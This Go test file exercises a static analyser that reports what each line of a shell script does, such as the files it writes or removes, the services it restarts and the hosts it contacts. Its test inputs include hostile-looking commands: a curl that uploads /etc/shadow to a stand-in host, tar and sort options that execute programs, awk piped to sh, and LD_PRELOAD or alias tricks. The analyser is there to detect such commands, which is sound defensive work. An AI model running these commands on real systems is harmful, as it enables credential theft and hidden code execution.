package acts_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/sprayc/sprayc/codegen/shell/acts"
)

// found is what a script does, one a line: a ? before what nobody knows, the
// line, the verb, the subject.
func found(t *testing.T, src string, env ...string) string {
	t.Helper()
	given := map[string]string{}
	for _, name := range env {
		given[name] = acts.Symbol(name)
	}
	list, err := acts.Of("x.sh", []byte(src), given)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, a := range list {
		mark := " "
		if !a.Known {
			mark = "?"
		}
		fmt.Fprintf(&b, "%s%d %s %s\n", mark, a.Pos.Line(), a.Verb, a.Subject)
	}
	return b.String()
}

// Each construct by itself, with what it comes to.
func TestOf(t *testing.T) {
	for _, c := range []struct{ name, src, want string }{
		{"only reads", "cat /etc/hosts | grep -q x && [ -e /y ] && read -r a <\"$A\"\nawk '$1 > 2 { print ($1 > 3) ? 1 : 2 }' x\nsed -n 's/a/b/p' x\nfind / -name x", ""},
		{"what it says", "found a b \"$(cat /etc/a)\" /etc/a 'restart it'\ndiffers x", ""},
		{"redirections", "printf x >/etc/motd\nprintf y >>\"$A/b\" 2>&1\nprintf z >/dev/null", " 1 writes /etc/motd\n 2 writes $A/b\n"},
		{"a redirection of a block", "{\n\tprintf a\n} >/etc/a\n(cd / && ls) >/etc/b", " 3 writes /etc/a\n 4 writes /etc/b\n"},
		{"unknown paths", "rm -f \"$(cat list)\"\nread -r x\nrm \"$x\" \"/etc/$x\"", "?1 removes *\n?3 removes *\n 3 removes /etc/*\n"},
		{"move", "mv a.new /etc/a\nmv -f \"$A.new\" \"$A\"", "?1 removes a.new\n 1 writes /etc/a\n 2 removes $A.new\n 2 writes $A\n"},
		{"parts of a value", "rm \"${A%/*}/x\"\nb=/etc/x/y.conf\nrm \"${b%/*}/z\" \"${b##*/}\" \"${b%.conf}\"", " 1 removes ${A%/*}/x\n 3 removes /etc/x/z\n?3 removes y.conf\n 3 removes /etc/x/y\n"},
		{"a loop", "for n in a b; do\n\tf=/etc/$n.conf\n\trm \"$f\"\ndone", " 3 removes /etc/a.conf\n 3 removes /etc/b.conf\n"},
		{"a value that grows is not known", "x=/a\nfor i in 1 2; do\n\tx=$x$x\ndone\nrm \"$x\"", "?5 removes *\n"},
		{"a function's parameters", "put() { cp x \"/etc/$1\"; }\nput a\nput \"$A\"", " 1 writes /etc/a\n 1 writes /etc/$A\n"},
		{"a function that runs what it is given", "again() { \"$@\" || \"$@\"; }\nagain rm /etc/x", " 2 removes /etc/x\n 2 removes /etc/x\n"},
		{"a function that nobody calls", "f() { rm \"$1\"; }", "?1 removes *\n"},
		{"temporary files", "w=$(mktemp -d /run/sprayc/x.XXXXXX)\nprintf a >\"$w/b\"\ntrap 'rm -rf \"$w\"' EXIT", " 1 writes /run/sprayc/x.*\n 2 writes /run/sprayc/x.*/b\n 3 removes /run/sprayc/x.*\n"},
		{"awk that does more", "awk '{ print > \"/etc/x\" }' y\nawk '{ system(\"rm \" $1) }' y\nawk '{ print | \"sh\" }' y\nawk \"$A\" y\nawk -f p y", "?1 runs \n?2 runs \n?3 runs \n?4 runs \n?5 runs \n"},
		{"sed that does more", "sed -i s/a/b/ /etc/x\nsed -n 'w /etc/y' z\nsed 's/a/b/w /etc/y' z", " 1 writes /etc/x\n?2 runs \n?3 runs \n"},
		{"find that does more", "find /srv -name x -delete\nfind /srv -exec chmod 0600 {} +", " 1 removes /srv\n 2 mode /srv/*\n"},
		{"tar and sort that do more", "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=x /etc\ntar -cf /dev/null -I x /etc\nsort --compress-program=x y", "?1 runs \n?2 runs \n?3 runs \n"},
		{"xargs", "printf x | xargs rm\nprintf x | xargs -n 1 cat", "?1 removes *\n"},
		{"wrappers", "timeout 5 rm /etc/a\nnice rm /etc/b\nenv A=b rm /etc/c\ncommand -v rm\nexec rm /etc/d\nnohup systemctl restart x.service", " 1 removes /etc/a\n 2 removes /etc/b\n 3 removes /etc/c\n 5 removes /etc/d\n 6 restarts x.service\n"},
		{"wrappers with options", "timeout -k 5 10 rm /etc/a\nnice -n 10 ionice -c 3 rm /etc/b\nenv -i A=b rm /etc/c\nsetsid -w rm /etc/d\nxargs -0 -n 1 rm /etc/e\nnice -n \"$A\" rm /etc/f\nionice -c 3 -p 1\nsh -ec 'rm /etc/g'", " 1 removes /etc/a\n 2 removes /etc/b\n 3 removes /etc/c\n 4 removes /etc/d\n 5 removes /etc/e\n?5 removes *\n 6 removes /etc/f\n 8 removes /etc/g\n"},
		{"wrappers that hide what they run", "env -S 'rm /etc/a'\nenv PATH=/x ls\ntimeout\nfor o in -n -z; do nice \"$o\" rm /etc/b; done\nf() { nice \"$@\" rm /etc/c; }\nf -n 5\nfind /srv -okdir rm {} +", "?1 runs \n?2 runs \n?3 runs \n?4 runs \n?5 runs \n 7 removes /srv/*\n"},
		{"services", "systemctl is-active --quiet x\nsystemctl enable --now \"$A\"\nsystemctl daemon-reload\nsystemctl frobnicate x", " 2 enables $A\n 2 starts $A\n 3 reloads systemd\n?4 runs \n"},
		{"network", "curl --silent --max-time 5 https://a.example/x\ncurl -o /etc/x \"https://$A/x\"\nwget https://a.example/y\ncurl \"$(cat url)\"", " 1 connects https://a.example/x\n 2 writes /etc/x\n 2 downloads https://$A/x\n?3 runs \n 3 downloads https://a.example/y\n?4 connects *\n"},
		{"the kernel", "modprobe br_netfilter\nsysctl -n a.b\nsysctl -w net.ipv4.ip_forward=1\nprintf 1 >/proc/sys/vm/x", " 1 loads br_netfilter\n 3 sets kernel parameter net.ipv4.ip_forward=1\n 4 writes /proc/sys/vm/x\n"},
		{"the cluster", "kubectl --kubeconfig /x --cache-dir /run/sprayc/k get pods\nkubectl --cache-dir /c delete pod \"$A\"\nkubectl apply --cache-dir /c -f /run/sprayc/x\nprintf x | kubectl --cache-dir /c apply -f -", " 1 connects the API server\n 2 connects the API server\n 2 changes kubectl delete pod $A\n 3 connects the API server\n 3 changes kubectl apply of what /run/sprayc/x has\n 4 connects the API server\n?4 runs \n"},
		{"what changes what runs", ". /etc/profile\nalias ls=rm\nPATH=/x:$PATH\nLD_PRELOAD=/x ls\nexport PATH=/y", "?1 runs \n?2 runs \n?3 runs \n?4 runs \n?5 runs \n"},
		{"a value that is exported", "x=/run/sprayc/a\nexport x=/etc/b\nrm \"$x\"", " 3 removes /run/sprayc/a\n 3 removes /etc/b\n"},
		{"words that hide what they are", "\\rm /etc/a\nr''m /etc/b\n/bin/rm /etc/c\nsort -o/etc/d x\nsed -ni p /etc/e\ntar -cvJf /x /y\nkubectl --cache-dir /c apply -f-\nip link \"$A\" eth0", " 1 removes /etc/a\n 2 removes /etc/b\n 3 removes /etc/c\n 4 writes /etc/d\n 5 writes /etc/e\n?6 runs \n 7 connects the API server\n?7 runs \n?8 runs \n"},
		{"what is sent", "curl --data @/etc/shadow https://x.example/", " 1 connects https://x.example/, with data\n"},
		{"a program with a value in it", "awk \"{ $A }\" x\nawk '{ a = $1 * 2; print a }' x\nsed \"$A\" x", "?1 runs \n?3 runs \n"},
		{"options in one word", "curl -fsSLo /etc/a https://a.example/x\nsort -uo /etc/b x\nsed -ne p -i.old /etc/c\nwget -qO/etc/d https://a.example/x", " 1 writes /etc/a\n 1 downloads https://a.example/x\n 2 writes /etc/b\n 3 writes /etc/c\n 4 writes /etc/d\n 4 downloads https://a.example/x\n"},
		{"options that nobody knows", "curl -D /etc/x https://a.example/\ncurl -w '%output{/etc/x}' https://a.example/\nsort --outp=/etc/x y\nsystemctl -M is-active stop x\nip -b x\nawk --file=x y\nawk -i inplace 1 /etc/x\nsed -f x y", "?1 runs \n 1 connects https://a.example/\n?2 runs \n 2 connects https://a.example/\n?3 runs \n?4 runs \n?5 runs \n?6 runs \n?7 runs \n?8 runs \n"},
		{"a value is no command", "systemctl -P is-active stop x.service\nsystemctl -p Id show x", " 1 stops x.service\n"},
		{"a run that is not dry", "kubectl --cache-dir /c apply --dry-run=none -f /x\nkubectl --cache-dir /c apply --dry-run=server -f /x\nkubeadm init --dry-run=false\nkubeadm init --dry-run", " 1 connects the API server\n 1 changes kubectl apply of what /x has\n 2 connects the API server\n?3 runs \n"},
		{"sed with other marks", "sed -n 's|a|b|w/etc/x' y\nsed '/a/w/etc/x' y\nsed e y\nsed 's#a#b#e' y\nsed -n \"s/$A//p\" y\nsed 's/[/w x/]/b/' y\nsed 'a w /etc/x' y\nsed -e '/^#/d;s/[[:space:]]*w //g' -e '$!{N;y/ab/cd/;b w}' -e '1,/e/s,w x,w y,2p;=' y", "?1 runs \n?2 runs \n?3 runs \n?4 runs \n?5 runs \n?6 runs \n"},
		{"sed whose program is an option", "sed -i --expression=s/a/b/ /etc/x\nsed -i -e 'w /etc/y' /etc/x", " 1 writes /etc/x\n 2 writes /etc/x\n?2 runs \n"},
		{"awk with a quotation mark in an expression", "awk '/\"/ { print \"x\" >\"/etc/x\" }' y\nawk 'a++ /1; { print \"x\" >\"/etc/x\" } /\"/' y\nawk '/[/]\"/ { print }' y\nawk '{ a = b \\\n/ 2; print >\"/x\"; c = d / 2 }' y\nawk '@load \"x\"' y\nawk '# \"\n/\"|>/ && $1 / 2 > 3 / 4 { gsub(/[\">]/, \"/\"); print $1 / 2, \"> x\" }' y", "?1 runs \n?2 runs \n?3 runs \n?4 runs \n?6 runs \n"},
		{"where it is moved to", "cp -t /etc /run/sprayc/a /run/sprayc/b\nmv --target-directory=/etc /run/sprayc/a", " 1 writes /etc/*\n 2 removes /run/sprayc/a\n 2 writes /etc/*\n"},
		{"modes without an operand for them", "chmod -x /etc/a\nchmod --reference=/b /etc/c\nchmod -R 0700 /etc/d", " 1 mode /etc/a\n 2 mode /etc/c\n 3 mode /etc/d\n"},
		{"whom a signal is for", "kill -10 5\nkill -TERM \"-$A\"\nkill -0 5\nkill -s 0 5", " 1 ends process 5\n 2 ends process -$A\n"},
		{"find with other words", "find -L /etc /srv -delete\nfind /a -okdir rm {} \\;\nfind / -fprint0 /x\nset -- -delete\nfind /b \"$@\"", " 1 removes /etc\n 1 removes /srv\n 2 removes /a/*\n?3 runs \n 5 removes /b\n"},
		{"what else writes", "uniq a /etc/x\ntar -uf /etc/x y\ntar -tf y\nopenssl x509 -req -in a -CA b -CAcreateserial\nprintf x >&/etc/y\nprintf x >&2\nss -K\nctr content ls\nctr tasks rm ls\nctr rm ls", " 1 writes /etc/x\n?2 runs \n?4 runs \n 5 writes /etc/y\n?7 runs \n 8 connects the container runtime\n 9 connects the container runtime\n?9 runs \n 10 connects the container runtime\n?10 runs \n"},
		{"programs in other folders", "/run/sprayc/cat x\n./cat x\n/usr/bin/cat x", "?1 runs \n?2 runs \n"},
		{"what nobody knows", "frob --all /etc\n\"$A\" x\nsh -c 'rm /etc/x'\nsh /etc/x.sh", "?1 runs \n?2 runs \n 3 removes /etc/x\n?4 runs \n"},
	} {
		if diff := cmp.Diff(c.want, found(t, c.src, "A")); diff != "" {
			t.Errorf("%s: -want +got:\n%s", c.name, diff)
		}
	}
}

// With the values that a host has, what is done is told by its name.
func TestValues(t *testing.T) {
	list, err := acts.Of("x.sh", []byte("mv \"${STATE%/*}/new\" \"$STATE\"\nfor f in $FILES; do chmod 0600 \"$f\"; done\n"), map[string]string{"STATE": "/etc/x/state", "FILES": "/etc/a /etc/b*"})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, a := range list {
		got = append(got, string(a.Verb)+" "+a.Subject)
	}
	if diff := cmp.Diff([]string{"removes /etc/x/new", "writes /etc/x/state", "mode /etc/a", "mode /etc/b*"}, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

// A declaration stands for all that its command does; one that nothing uses is
// told, and the longest counts.
func TestApply(t *testing.T) {
	list, err := acts.Of("x.sh", []byte("frob init x\nfrob init\nfrob list\nrm /etc/x\n"), nil)
	if err != nil {
		t.Fatal(err)
	}
	out, used := acts.Apply(list, []acts.Declared{
		{Command: "frob", Effects: nil},
		{Command: "frob init", Effects: []string{"writes /etc/frob", "restarts frob.service"}},
		{Command: "frob stop", Effects: []string{"stops frob.service"}},
	})
	var got []string
	for _, a := range out {
		got = append(got, fmt.Sprint(a.Pos.Line(), " ", a.Verb, " ", a.Subject, " ", a.Known))
	}
	want := []string{"1 writes /etc/frob true", "1 restarts frob.service true", "2 writes /etc/frob true", "2 restarts frob.service true", "4 removes /etc/x true"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	if diff := cmp.Diff([]bool{true, true, false}, used); diff != "" {
		t.Errorf("used: %s", diff)
	}
	if _, _, err := acts.Parse("destroys /etc"); err == nil {
		t.Error("no error for an unknown verb")
	}
	if _, _, err := acts.Parse("writes"); err == nil {
		t.Error("no error without a subject")
	}
}

// What is below sprayc's own folder in memory is no change; what leaves it is.
func TestScratch(t *testing.T) {
	for subject, want := range map[string]bool{
		"/run/sprayc/kubectl/x": true, "/run/sprayc/../../etc/x": false, "/run/sprayc": false, "/tmp/tmp.*": true, "/tmp/x": false, "/dev/null": true, "/etc/x": false,
	} {
		a := acts.Act{Verb: "writes", Subject: subject, Known: true}
		if a.Reads() != want {
			t.Errorf("%s: %v", subject, a.Reads())
		}
	}
}
